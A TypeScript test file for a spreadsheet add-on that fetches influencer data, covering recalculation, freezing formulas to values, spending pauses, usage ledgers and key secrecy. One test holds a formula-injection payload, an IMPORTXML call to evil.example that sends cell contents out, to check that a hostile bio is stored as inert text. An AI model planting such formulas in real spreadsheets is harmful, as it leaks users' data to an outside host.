import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { createAddon, type Addon } from '../setup/addon';
import { ordinaryHandles } from '../setup/creators';

let addon: Addon;
beforeEach(async () => {
  addon = await createAddon({ container: 'addon' });
  await addon.emulator.open();
});
afterEach(() => addon.close());

const sheet = () => addon.emulator.spreadsheet.sheet('Sheet1');
const click = (label: string) => addon.emulator.menu.click(label);
const lastToast = (): string => addon.emulator.ui.toasts.at(-1)?.message ?? '';
const lastAlert = (): string => addon.emulator.ui.alerts.at(-1)?.message ?? '';

test('the menu is there in every mode, also where the add-on is not enabled', async () => {
  const labels = addon.emulator.menu.items().map(({ label }) => label);
  expect(labels).toContain('Usage');
  await addon.emulator.open({ mode: 'NONE' });
  expect(addon.emulator.menu.items().map(({ label }) => label)).toEqual(labels);
});

describe('Recalculate unfinished formulas', () => {
  test('is repeated until nothing is pending: each creator is paid once', async () => {
    addon.standin.latencyMs = 4_000;
    const handles = ordinaryHandles(addon.standin, 40);
    handles.forEach((handle, index) => sheet().set(`A${index + 1}`, handle));
    addon.setSettings({ keyKind: 'trial' });
    sheet().set('B1', '=INFLU_ENGAGEMENT("instagram", A1:A40)');
    await addon.emulator.recalculate({ all: true });
    const pending = (): number =>
      sheet()
        .values('B1:B40')
        .flat()
        .filter((value) => value === 'pending').length;
    expect(pending()).toBeGreaterThan(0);
    let rounds = 0;
    for (; pending() > 0; rounds++) {
      expect(rounds).toBeLessThan(20);
      addon.emulator.clock.advance(20_000);
      await click('Recalculate unfinished formulas');
      await addon.emulator.recalculate();
    }
    expect(lastToast()).toMatch(/^1 formula recalculated/);
    expect(addon.charged()).toBe(40);
    await click('Recalculate unfinished formulas');
    expect(lastToast()).toBe('No unfinished formulas.');
  });
});

describe('Freeze formulas to values', () => {
  test('keeps results, nested and spilled ones too, and leaves errors and pending cells alone', async () => {
    const handles = ordinaryHandles(addon.standin, 3);
    handles.forEach((handle, index) => {
      sheet().set(`A${index + 1}`, handle);
      sheet().set(`B${index + 1}`, `=INFLU_ENGAGEMENT("instagram", A${index + 1})`);
    });
    sheet().set('C1', '=ROUND(INFLU_ENGAGEMENT("instagram", A1), 0)');
    sheet().set('D1', '=INFLU_ENGAGEMENT("instagram", A1:A3)');
    sheet().set('E1', '=INFLU_ENGAGEMENT("nowhere", A1)');
    sheet().set('F1', '=SUM(B1:B3)');
    sheet().set('G1', '=INFLU_ENGAGEMENT("instagram", "brand.new.one")');
    await addon.emulator.recalculate({ all: true });
    const before = sheet().values('A1:F3');
    addon.emulator.ui.answer('NO');
    await click('Freeze formulas to values (whole sheet)');
    expect(lastAlert()).toBe(
      "Replace 5 influData formulas on this sheet with their values? This can't be undone from here; use Undo right after.",
    );
    expect([sheet().get('B1').formula, addon.emulator.ui.toasts]).toEqual(['=INFLU_ENGAGEMENT("instagram", A1)', []]);
    addon.emulator.ui.answer('YES');
    await click('Freeze formulas to values (whole sheet)');
    await addon.emulator.recalculate();
    expect(sheet().values('A1:F3')).toEqual(before);
    expect(sheet().get('B1').formula).toBeFalsy();
    expect(sheet().get('C1').formula).toBeFalsy();
    expect(sheet().get('D1').formula).toBeFalsy();
    expect(sheet().get('E1').formula).toBe('=INFLU_ENGAGEMENT("nowhere", A1)');
    expect(sheet().get('F1').formula).toBe('=SUM(B1:B3)');
    expect(sheet().get('G1')).toMatchObject({ value: 'queued', formula: expect.stringMatching(/^=INFLU/) });
    expect(lastToast()).toBe(
      '5 formulas replaced with their values. 2 formulas left alone: they are unfinished or show an error.',
    );
    expect(addon.charged()).toBe(3);
  });

  test('a hostile bio is frozen as text', async () => {
    sheet().set('A1', '=INFLU_PROFILE("instagram", "special.formula", "bio")');
    await addon.emulator.recalculate({ all: true });
    addon.emulator.ui.answer('YES');
    await click('Freeze formulas to values (whole sheet)');
    const { value, formula } = sheet().get('A1');
    expect(formula).toBeFalsy();
    expect(value).toBe('=IMPORTXML("https://evil.example/?q="&A1,"//a")');
  });
});

test('Pause spending stops formulas, and allows them again', async () => {
  const [first, second] = ordinaryHandles(addon.standin, 2);
  await addon.shown('INFLU_ENGAGEMENT', 'instagram', first);
  await click('Pause or resume spending');
  expect(lastToast()).toMatch(/^Spending is paused/);
  expect(await addon.shown('INFLU_ENGAGEMENT', 'instagram', second)).toBe('paused');
  await click('Pause or resume spending');
  expect(typeof (await addon.shown('INFLU_ENGAGEMENT', 'instagram', second))).toBe('number');
  expect(addon.charged()).toBe(2);
});

describe('Usage', () => {
  test('says what was charged today and this month, and writes each ledger line once to the log tab', async () => {
    for (const handle of ordinaryHandles(addon.standin, 3)) await addon.shown('INFLU_ENGAGEMENT', 'instagram', handle);
    await click('Usage');
    expect(lastAlert()).toMatch(
      /^Today: 3 requests charged \(3 of them by formulas\)\.\nThis month: 3 requests charged\./,
    );
    expect(lastAlert()).toMatch(/Balance of the key ending in 0001: 99,997 requests/);
    const log = addon.emulator.spreadsheet.sheet('influData log');
    const rows = (): unknown[][] => log.values('A1:J10').filter(([first]) => first !== '');
    expect(rows().length).toBe(4);
    expect(rows()[1]?.slice(1, 9)).toEqual([
      'Formula (spreadsheet key)',
      'Formula',
      'creator data',
      1,
      1,
      0,
      '0001',
      'getUserData',
    ]);
    expect(rows()[1]?.[0]).toBeInstanceOf(Date);
    await click('Usage');
    expect(rows().length).toBe(4);
    expect(addon.emulator.spreadsheet.activeSheet().name).toBe('Sheet1');
  });

  test('has each line once also where a write broke off that had left the line, and not that it is counted', async () => {
    const [first, second] = ordinaryHandles(addon.standin, 2);
    await addon.shown('INFLU_ENGAGEMENT', 'instagram', first);
    addon.emulator.faults.intercept = ({ method, phase, args }) => {
      if (method !== 'setProperties' || phase !== 'before') return undefined;
      const lines = (args[1] as [string, string][]).filter(([name]) => name.startsWith('log/'));
      addon.emulator.stores.properties('document').setAll(lines);
      return { throw: 'Service error: Properties' };
    };
    await addon.shown('INFLU_ENGAGEMENT', 'instagram', second);
    delete addon.emulator.faults.intercept;
    expect(addon.property('log/0')).toMatch(/getUserData/);
    // A tab of an earlier version keeps its columns.
    const earlier = 'Time,Who,What,Endpoint,Creators,Requests charged,"Charge unknown, at most",Key ends in,Entry';
    const headers = earlier.match(/[^,"]+|"[^"]+"/g)?.map((header) => header.replaceAll('"', '')) ?? [];
    addon.emulator.spreadsheet.insertSheet('influData log').set('A1', [headers]);
    await click('Usage');
    const log = addon.emulator.spreadsheet.sheet('influData log').values('D2:F10');
    expect(log.filter(([endpoint]) => endpoint === 'getUserData')).toEqual([['getUserData', 1, 1]]);
  });

  test('drift between the ledger and the API is shown', async () => {
    const [first, second, third] = ordinaryHandles(addon.standin, 3);
    await addon.shown('INFLU_ENGAGEMENT', 'instagram', first);
    addon.standin.keys.setBalance('demo-organization-key-0000000000000001', 99_000);
    addon.emulator.clock.advance(11 * 60_000);
    await addon.shown('INFLU_ENGAGEMENT', 'instagram', second);
    await addon.shown('INFLU_ENGAGEMENT', 'instagram', third);
    await click('Usage');
    expect(lastAlert()).toMatch(/influData charged 999 requests more than this spreadsheet knows of/);
  });

  test('the key is nowhere: not in cells, properties of the ledger, or dialogs', async () => {
    const [handle] = ordinaryHandles(addon.standin, 1);
    await addon.shown('INFLU_ENGAGEMENT', 'instagram', handle);
    await click('Usage');
    const key = addon.property('INFLUDATA_API_KEY') ?? '';
    const properties = addon.emulator.stores.properties('document').all();
    delete properties['INFLUDATA_API_KEY'];
    const cache = addon.emulator.stores.cache('document');
    const seen = JSON.stringify([
      properties,
      cache.keys(),
      addon.emulator.spreadsheet.snapshot(),
      addon.emulator.ui.alerts,
      addon.emulator.logs,
    ]);
    expect(key.length).toBeGreaterThan(10);
    expect(seen).not.toContain(key);
  });
});

describe('a store that cannot be read', () => {
  test('is started anew only when a person says so, and then nothing is bought until tomorrow', async () => {
    const [handle, other] = ordinaryHandles(addon.standin, 2);
    addon.setProperty('slot/3', '{"state":"??"}');
    expect(await addon.shown('INFLU_ENGAGEMENT', 'instagram', handle)).toMatch(/can't read .*, so nothing is bought/);
    addon.emulator.ui.answer('NO');
    await click('Usage');
    expect(addon.property('slot/3')).toBe('{"state":"??"}');
    addon.emulator.ui.answer('YES');
    await click('Usage');
    expect(await addon.shown('INFLU_ENGAGEMENT', 'instagram', handle)).toMatch(/^budget reached/);
    addon.emulator.clock.advance(24 * 3_600_000);
    expect(typeof (await addon.shown('INFLU_ENGAGEMENT', 'instagram', other))).toBe('number');
    expect(addon.charged()).toBe(1);
  });

  test('so are answers, which only who asks for them reads', async () => {
    const handles = ordinaryHandles(addon.standin, 3);
    const ask = (): Promise<unknown> => addon.shown('INFLU_ENGAGEMENT', 'instagram', handles[0]);
    await ask();
    // The next that is bought puts the answer where it lasts.
    await addon.shown('INFLU_ENGAGEMENT', 'instagram', handles[1]);
    const store = addon.emulator.stores.properties('document');
    for (const name of Object.keys(store.all())) if (name.startsWith('a/')) store.set(name, '?');
    addon.forgetCache();
    expect(await ask()).toMatch(/saved answers of this spreadsheet.*Usage in the influData menu to repair/);
    addon.emulator.ui.answer('YES');
    await click('Usage');
    expect(await ask()).toMatch(/^budget reached/);
    addon.emulator.clock.advance(24 * 3_600_000);
    expect(typeof (await ask())).toBe('number');
    expect(addon.charged()).toBe(3);
  });
});
